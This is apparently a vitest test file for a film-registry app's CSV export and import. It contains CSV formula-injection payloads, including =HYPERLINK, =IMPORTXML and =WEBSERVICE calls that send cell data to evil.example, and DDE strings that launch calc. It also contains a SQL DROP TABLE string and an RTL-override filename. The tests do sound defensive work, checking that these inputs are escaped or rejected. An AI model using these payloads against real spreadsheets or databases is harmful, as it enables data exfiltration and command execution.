// Hostile CSV (issue 12): formula injection in every exported cell (registry.csv), and hostile State Film Register
// files through `kuzet films import` / POST /api/films/import (films/import.ts): formulas stored as text and
// neutralised on the way out, NUL and bidi characters, huge cells, broken quoting, too many rows or bytes, lying
// headers. Each import ends in a per-row report or one clear file error; a refused file writes nothing.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import iconv from 'iconv-lite';
import { importFilms, ImportFileError, IMPORT_MAX_BYTES } from '../../films/import.ts';
import { csvCell, registryCsv, renderCsv, type RegistryExport } from '../../registry/exports.ts';
import type { Db } from '../../storage/db.ts';
import { freshPglite } from '../kit/db.ts';

/** RFC 4180 reader, independent of the exporter */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; }
    else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; }
    else cell += c;
  }
  return rows;
}
const FORMULA = /^[=+\-@\t\r]/;

const PAYLOADS: Array<[string, string]> = [
  ['=HYPERLINK', '=HYPERLINK("http://evil.example/?"&A1,"click")'],
  ['DDE via +', "+cmd|' /C calc'!A0"],
  ['arithmetic -', '-2+3+cmd|\' /C notepad\'!A0'],
  ['@SUM', '@SUM(1+1)*cmd|\'/C calc\'!A0'],
  ['tab then =', '\t=1+1'],
  ['CR then =', '\r=1+1'],
  ['a quote then =', '"=1+1'],
  ['a newline then =', 'x\n=1+1'],
  ['a comma then =', 'a,=1+1'],
  ['=IMPORTXML (Google Sheets)', '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")'],
  ['=WEBSERVICE', '=WEBSERVICE("http://evil.example/"&A1)'],
  ['-= (both)', '-=1'],
];

describe('registry.csv neutralises every formula-looking cell', () => {
  it.each(PAYLOADS)('%s in every column', (_name, p) => {
    const x: RegistryExport = {
      serial: 1, generatedAt: '2026-12-01T00:00:00.000Z', auditHead: null,
      entries: [{ serial: 1, domain: p, activatedAt: p, reason: p, films: [{ id: p, titleKk: p, titleRu: p, titleEn: p } as RegistryExport['entries'][number]['films'][number]] }],
    };
    const rows = readCsv(renderCsv(x));
    expect(rows).toHaveLength(2);
    expect(rows[1]).toHaveLength(6);
    for (const c of rows[1]!.slice(1)) {
      expect(c, JSON.stringify(c)).not.toMatch(FORMULA);
      expect(c.replace(/^'/, '')).toBe(p); // the text itself is kept, whole
    }
  });

  it('numbers and plain text pass unchanged; a negative number is text too', () => {
    expect(csvCell(42)).toBe('42');
    expect(csvCell('Қыз Жібек')).toBe('Қыз Жібек');
    expect(csvCell(-1)).toBe("'-1");
  });
});

describe('films import with hostile files', () => {
  let db: Db;
  beforeAll(async () => { db = await freshPglite(); });
  afterAll(async () => db?.close());

  const header = 'register_no;title_kk;title_ru;year';
  const csv = (...rows: string[]) => Buffer.from([header, ...rows].join('\r\n') + '\r\n', 'utf8');
  const counts = async () => JSON.stringify(await db.query(`SELECT (SELECT count(*) FROM films)::int AS films, (SELECT count(*) FROM audit_log)::int AS audit`));
  let n = 0;
  const reg = () => `ГРФ-${String(++n).padStart(5, '0')}`;

  it('a formula-looking title is stored as text and leaves registry.csv neutralised', async () => {
    const no = reg();
    const r = await importFilms(db, csv(`${no};=HYPERLINK("http://evil.example","x");+cmd|' /C calc'!A0;2020`), { actor: 'test' });
    expect(r).toMatchObject({ created: 1, invalid: [] });
    const [film] = await db.query<{ id: string; title_kk: string; title_ru: string }>('SELECT id, title_kk, title_ru FROM films WHERE state_register_no = $1', [no]);
    expect(film!.title_kk).toBe('=HYPERLINK("http://evil.example","x")');
    await db.query(`INSERT INTO registry_entries (id, domain, status, serial, film_ids, match_ids, reason, activated_at) VALUES ('reg_csv', 'p.example.kz', 'active', 1, ARRAY[$1], ARRAY[]::text[], '@reason', now())`, [film!.id]);
    await db.query(`SELECT setval('registry_serial', 1)`);
    const rows = readCsv(await registryCsv(db));
    for (const c of rows.slice(1).flat()) expect(c).not.toMatch(FORMULA);
    expect(rows[1]![4]).toBe(`'+cmd|' /C calc'!A0`);
  });

  it.each([
    ['a NUL byte and controls in a title', `;Кел\u0000ін\u0007;Келин;2009`, (t: string) => expect(t).not.toMatch(/[\u0000-\u001f]/)],
    ['an RTL override in a title', `;Келін \u202Egpj.exe;Келин;2009`, (t: string) => expect(t).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/)],
    ['a title in quotes with ; and a line break', `;"Келін; ""екі""\r\nжол";Келин;2009`, (t: string) => expect(t).toBe('Келін; "екі" жол')],
  ])('%s: stored cleaned', async (_name, row, check) => {
    const no = reg();
    const r = await importFilms(db, csv(`${no}${row}`), { actor: 'test' });
    expect(r.invalid, JSON.stringify(r.invalid)).toEqual([]);
    const [film] = await db.query<{ title_kk: string }>('SELECT title_kk FROM films WHERE state_register_no = $1', [no]);
    check(film!.title_kk);
  });

  it.each([
    ['a 1 MB title', () => `${reg()};${'Ж'.repeat(1_000_000)};Келин;2009`],
    ['a year of 1e400', () => `${reg()};Келін;Келин;1e400`],
    ['a year of -2009', () => `${reg()};Келін;Келин;-2009`],
    ['a row with an extra field', () => `${reg()};Келін;Келин;2009;extra`],
    ['a row with a missing field', () => `${reg()};Келін;Келин`],
    ['an unterminated quote', () => `${reg()};"Келін;Келин;2009`],
    ['a blank register number', () => `;Келін;Келин;2009`],
    ['a register number of 10,000 characters', () => `${'9'.repeat(10_000)};Келін;Келин;2009`],
    ['a register number with SQL in it', () => `1'; DROP TABLE films;--;Келін;Келин;2009`],
  ])('%s: that row is reported invalid with a reason, nothing else written', async (_name, row) => {
    const before = await counts();
    const r = await importFilms(db, csv(row()), { actor: 'test', dryRun: true });
    expect(r.created + r.updated).toBe(0);
    expect(r.invalid).toHaveLength(1);
    expect(r.invalid[0]!.reason.length).toBeGreaterThan(5);
    expect(r.invalid[0]!.reason.length).toBeLessThan(2000);
    expect(await counts()).toBe(before);
  });

  it('the same register number twice: the second row is refused, the first stored once', async () => {
    const no = reg();
    const r = await importFilms(db, csv(`${no};Бір;Один;2001`, `${no};Екі;Два;2002`), { actor: 'test' });
    expect(r.created).toBe(1);
    expect(r.invalid).toEqual([{ line: 3, reason: expect.stringMatching(/repeats line 2/) }]);
  });

  it.each([
    ['an empty file', () => Buffer.alloc(0), /empty/],
    ['a file over the size limit', () => Buffer.alloc(IMPORT_MAX_BYTES + 1, 0x41), /larger than/],
    ['50,001 rows', () => Buffer.from([header, ...Array.from({ length: 50_001 }, (_, i) => `R${i};a;b;2000`)].join('\n')), /more than 50000 rows/],
    ['no register number column', () => Buffer.from('title_kk;title_ru\nА;Б\n'), /no register number column/],
    ['two columns for one field', () => Buffer.from('register_no;title_ru;название\n1;a;b\n'), /two columns map to/],
    ['an Excel sep= line before the header', () => Buffer.from(`sep=;\n${header}\nR1;a;b;2000\n`), /no register number column/],
    ['a header of formulas', () => Buffer.from('=cmd|\' /C calc\'!A0;@SUM(1)\n1;2\n'), /no register number column/],
    ['random bytes', () => Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256)), /no register number column|empty/],
  ])('%s: one clear file error, nothing written', async (_name, bytes, reason) => {
    const before = await counts();
    const err = await importFilms(db, bytes(), { actor: 'test' }).then(() => null, (e: Error) => e);
    expect(err).toBeInstanceOf(ImportFileError);
    expect(err!.message).toMatch(reason);
    expect(await counts()).toBe(before);
  });

  it('a Windows-1251 file whose Kazakh letters were lost is refused row by row, not stored as "?"', async () => {
    const no = reg();
    const r = await importFilms(db, iconv.encode(`${header}\r\n${no};Қыз Жібек;Кыз Жибек;1970\r\n`, 'win1251'), { actor: 'test', dryRun: true });
    expect(r.encoding).toBe('windows-1251');
    expect(r.created).toBe(0);
    expect(r.invalid).toHaveLength(1);
  });
});
